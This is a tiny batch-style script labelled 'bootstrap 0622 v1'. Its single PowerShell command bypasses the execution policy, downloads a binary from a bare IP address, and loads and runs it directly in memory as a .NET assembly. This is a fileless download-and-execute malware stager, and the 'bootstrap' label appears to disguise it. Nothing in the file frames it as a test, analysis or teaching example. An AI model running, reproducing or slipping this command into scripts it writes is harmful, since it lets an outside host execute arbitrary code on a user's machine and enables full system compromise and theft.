REM bootstrap 0622 v1
powershell -ep bypass -c "$d=(New-Object Net.WebClient).DownloadData('http://198.51.100.23/p.bin');[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)"
